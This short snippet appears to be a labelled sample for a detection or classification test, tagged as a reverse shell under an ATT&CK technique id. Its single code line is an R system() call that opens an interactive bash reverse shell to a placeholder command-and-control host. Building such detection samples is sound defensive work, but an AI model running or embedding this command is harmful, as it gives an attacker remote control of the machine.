# expect: reverse-shell | source: T1059.004
system("bash -c 'bash -i >& /dev/tcp/c2.example.invalid/443 0>&1'", wait = FALSE)
